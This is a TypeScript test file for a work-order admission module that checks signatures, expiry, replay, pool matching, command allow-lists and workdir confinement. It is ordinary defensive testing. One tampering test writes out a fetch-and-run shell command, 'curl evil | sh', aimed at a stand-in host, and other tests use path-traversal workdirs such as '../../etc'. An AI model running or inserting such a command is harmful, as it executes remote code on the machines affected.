import { createSigningKey, NONCE_WINDOW_MS, signOrder, type WorkOrder } from "@rung/protocol";
import { describe, expect, it } from "vitest";
import {
  type AdmissionInput,
  type AdmissionPolicy,
  admitOrder,
  attemptKey,
  attemptNumber,
  SECURITY_REASONS,
} from "./admission.js";
import { type Pool, poolsFor } from "./pools.js";

/** Admission without NATS: orders in, verdicts out. */

const NOW = Date.UTC(2025, 0, 1);
const coordinator = createSigningKey();
const stranger = createSigningKey();
const [gpu1, gpu2] = poolsFor(2, 0) as [Pool, Pool];
const [cpu1] = poolsFor(0, 1) as [Pool];

function order(o: Partial<WorkOrder> = {}): WorkOrder {
  return {
    v: 1,
    type: "order",
    study: "s",
    trial: "t0001",
    attempt: 1,
    pool: "gpu1",
    resources: { gpus: 1, cpus: 0 },
    argv: ["python3", "train.py", "--lr", "0.1"],
    workdir: ".",
    env: {},
    secretEnv: [],
    params: { lr: 0.1 },
    timeAttr: "epoch",
    issuedAt: NOW,
    expiresAt: NOW + 3_600_000,
    nonce: "nonce-0001",
    ...o,
  };
}

const secure: AdmissionPolicy = { insecure: false, trust: [coordinator.publicKey], allowCommand: [], workdir: "/srv/rung" };
const insecure: AdmissionPolicy = { ...secure, insecure: true, trust: [] };

function admit(o: WorkOrder, more: Partial<AdmissionInput> = {}) {
  return admitOrder({
    order: o,
    pool: gpu1,
    deliveryCount: 1,
    policy: secure,
    now: NOW,
    replayed: null,
    isRunning: () => false,
    probe: () => null,
    ...more,
  });
}

const signed = (o: Partial<WorkOrder> = {}) => signOrder(order(o), coordinator.seed);

describe("order admission", () => {
  it("admits a signed, unexpired order as attempt order.attempt + deliveries - 1", () => {
    expect(admit(signed())).toEqual({ admit: true, attempt: 1 });
    expect(admit(signed({ attempt: 2 }), { deliveryCount: 3 })).toEqual({ admit: true, attempt: 4 });
    expect(attemptNumber({ attempt: 1 }, 2)).toBe(2);
    expect(attemptKey("s", "t0001", 2)).toBe("s.t0001.2");
  });

  it("refuses unsigned, untrusted, altered and expired orders; a final rejection names the order's own attempt", () => {
    // Refusals of this agent's own (another agent may run the order) name the delivery's attempt.
    expect(admit(order(), { deliveryCount: 2 })).toMatchObject({ admit: false, reason: "unsigned", attempt: 2 });
    expect(admit(signOrder(order(), stranger.seed))).toMatchObject({ admit: false, reason: "untrusted-signer", attempt: 1 });
    expect(admit({ ...signed(), argv: ["sh", "-c", "curl evil | sh"] }, { deliveryCount: 3 })).toMatchObject({
      admit: false,
      reason: "bad-signature",
      attempt: 1,
    });
    const expired = admit(signed({ expiresAt: NOW }));
    expect(expired).toMatchObject({ admit: false, reason: "expired" });
    expect(expired.admit || expired.detail).toBe(`the order expired at ${new Date(NOW).toISOString()}`);
  });

  it("refuses an order valid for longer than the replay window", () => {
    const v = admit(signed({ expiresAt: NOW + NONCE_WINDOW_MS + 1 }));
    expect(v).toMatchObject({ admit: false, reason: "expired" });
    expect(v.admit || v.detail).toMatch(/beyond the 7-day replay window; give orders a shorter life$/);
    expect(admit(signed({ expiresAt: NOW + NONCE_WINDOW_MS })).admit).toBe(true);
  });

  it("refuses a copy this agent's ledger knows, but only once the order proved authentic", () => {
    const why = "this agent already accepted an order with nonce nonce-0001 (work-stream message 3); message 9 is a copy";
    expect(admit(signed(), { replayed: why })).toEqual({ admit: false, reason: "replayed", detail: why, attempt: 1 });
    expect(admit(order(), { replayed: why })).toMatchObject({ reason: "unsigned" });
    expect(admit(signed({ expiresAt: NOW - 1 }), { replayed: why })).toMatchObject({ reason: "expired" });
  });

  it("with --insecure checks expiry but no signature and no ledger", () => {
    expect(admit(order(), { policy: insecure })).toEqual({ admit: true, attempt: 1 });
    expect(admit(order(), { policy: insecure, replayed: "a copy" })).toEqual({ admit: true, attempt: 1 });
    expect(admit(order({ expiresAt: NOW }), { policy: insecure })).toMatchObject({ admit: false, reason: "expired" });
    // Unsigned orders are not bound by the nonce window: their nonce is never recorded.
    expect(admit(order({ expiresAt: NOW + 2 * NONCE_WINDOW_MS }), { policy: insecure }).admit).toBe(true);
  });

  it("refuses an order that arrived on a pool not its own, or with another gang size", () => {
    expect(admit(signed({ pool: "gpu2" }))).toEqual({
      admit: false,
      reason: "malformed",
      detail: "an order for pool gpu2 arrived on pool gpu1",
      attempt: 1,
    });
    expect(admit(signed({ pool: "gpu2", resources: { gpus: 1, cpus: 0 } }), { pool: gpu2 })).toMatchObject({
      reason: "malformed",
      detail: "an order for 1 GPU(s) arrived on pool gpu2",
    });
    expect(admit(signed({ pool: "cpu1", resources: { gpus: 1, cpus: 1 } }), { pool: cpu1 })).toMatchObject({
      reason: "malformed",
    });
    expect(admit(signed({ pool: "cpu1", resources: { gpus: 0, cpus: 1 } }), { pool: cpu1 }).admit).toBe(true);
  });

  it("--allow-command matches whole leading arguments", () => {
    const policy = { ...secure, allowCommand: ["python3 train.py", " python3 eval.py "] };
    expect(admit(signed(), { policy }).admit).toBe(true);
    expect(admit(signed({ argv: ["python3", "train.py"] }), { policy }).admit).toBe(true);
    expect(admit(signed({ argv: ["python3", "eval.py", "-v"] }), { policy }).admit).toBe(true);
    expect(admit(signed({ argv: ["python3", "train.pyc"] }), { policy })).toEqual({
      admit: false,
      reason: "command-not-allowed",
      detail: '"python3" is not allowed by --allow-command on this agent',
      attempt: 1,
    });
    expect(admit(signed({ argv: ["sh", "-c", "python3 train.py"] }), { policy })).toMatchObject({
      reason: "command-not-allowed",
    });
  });

  it("refuses a workdir outside the agent's --workdir", () => {
    expect(admit(signed({ workdir: "runs/a" })).admit).toBe(true);
    expect(admit(signed({ workdir: "/srv/rung/runs" })).admit).toBe(true);
    for (const workdir of ["..", "runs/../../etc", "/etc", "/srv/rung-other"])
      expect(admit(signed({ workdir }))).toEqual({
        admit: false,
        reason: "malformed",
        detail: `workdir ${JSON.stringify(workdir)} lies outside the agent's --workdir /srv/rung`,
        attempt: 1,
      });
  });

  it("refuses an order whose workdir or program this machine lacks, saying which (cannot-run)", () => {
    const asked: [string, string, string | undefined][] = [];
    const probe = (workdir: string, program: string, path: string | undefined) => {
      asked.push([workdir, program, path]);
      return workdir.endsWith("missing") ? `working directory ${workdir} does not exist on this agent` : null;
    };
    expect(admit(signed({ workdir: "runs/a", env: { PATH: "/opt/bin" } }), { probe }).admit).toBe(true);
    expect(asked).toEqual([["/srv/rung/runs/a", "python3", "/opt/bin"]]);
    expect(admit(signed({ workdir: "missing" }), { probe, deliveryCount: 2 })).toEqual({
      admit: false,
      reason: "cannot-run",
      detail: 'working directory /srv/rung/missing does not exist on this agent (workdir "missing" under --workdir /srv/rung)',
      attempt: 2,
    });
    // Never asked about a workdir outside --workdir: that is refused first.
    asked.length = 0;
    expect(admit(signed({ workdir: "/etc" }), { probe })).toMatchObject({ reason: "malformed" });
    expect(asked).toEqual([]);
  });

  it("checks in order: the signature before the pool, the pool before the command, the command before the workdir", () => {
    const policy = { ...secure, allowCommand: ["python3 train.py"] };
    const everything = { pool: "gpu2", argv: ["sh"], workdir: "/etc" };
    expect(admit(order(everything), { policy })).toMatchObject({ reason: "unsigned" });
    expect(admit(signed(everything), { policy })).toMatchObject({ reason: "malformed" });
    expect(admit(signed({ argv: ["sh"], workdir: "/etc" }), { policy })).toMatchObject({ reason: "command-not-allowed" });
    expect(admit(signed({ workdir: "/etc" }), { policy })).toMatchObject({ reason: "malformed" });
  });

  it("refuses an attempt already running here, naming that attempt", () => {
    const running = new Set(["s.t0001.2"]);
    const isRunning = (key: string) => running.has(key);
    expect(admit(signed(), { deliveryCount: 2, isRunning })).toEqual({
      admit: false,
      reason: "replayed",
      detail: "attempt 2 of this trial is already running on this agent",
      attempt: 2,
    });
    expect(admit(signed(), { deliveryCount: 1, isRunning })).toEqual({ admit: true, attempt: 1 });
  });

  it("flags the refusals that may be an attack", () => {
    expect([...SECURITY_REASONS].sort()).toEqual([
      "bad-signature",
      "command-not-allowed",
      "replayed",
      "unsigned",
      "untrusted-signer",
    ]);
  });
});
